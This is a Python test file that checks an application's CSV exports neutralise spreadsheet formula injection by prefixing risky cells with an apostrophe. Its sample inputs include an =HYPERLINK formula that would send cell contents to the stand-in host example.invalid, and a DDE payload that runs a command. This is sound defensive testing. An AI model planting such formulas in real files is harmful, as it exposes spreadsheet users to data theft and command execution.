"""CSV exports never hand a spreadsheet a formula (OWASP "CSV injection"): a
directory name such as ``=HYPERLINK(…)`` is exported as text."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from api.app import create_app
from api.exports import csv_text
from graph.model import Node, NodeKind
from graph.settings import Settings
from graph.stores.memory import MemoryStore
from tests.conftest import bearer
from tests.factories import Network

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1;"voir")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_every_formula_start_is_neutralised_numbers_stay_numbers():
    rows = list(csv.reader(io.StringIO(csv_text([HOSTILE + [-12.5, 3, "ordinaire"]])), delimiter=";"))
    assert rows == [["'" + h for h in HOSTILE] + ["-12.5", "3", "ordinaire"]]


def test_the_orientation_sheet_exports_a_hostile_name_as_text(tmp_path):
    store = MemoryStore(tmp_path / "data")
    try:
        net = Network(store)
        for i, name in enumerate(HOSTILE):
            ref = net.establishment(f"86000010{i}", 5 + i, expertise={"DV": 3})
            store.upsert([Node(NodeKind.ESTABLISHMENT, ref.key, {"name": name, "phone": "=1+1"})])
        with TestClient(create_app(Settings(data_dir=tmp_path / "data"), store=store), headers=bearer(store)) as client:
            response = client.get("/recherche/fiche.csv", params={"d": "DV", "lieu": "86194", "rayon": "100"})
        assert response.status_code == 200, response.text[:300]
        rows = list(csv.reader(io.StringIO(response.text), delimiter=";"))
        names = {row[2] for row in rows[1:]}
        assert {"'" + h for h in HOSTILE} <= names
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    finally:
        store.close()
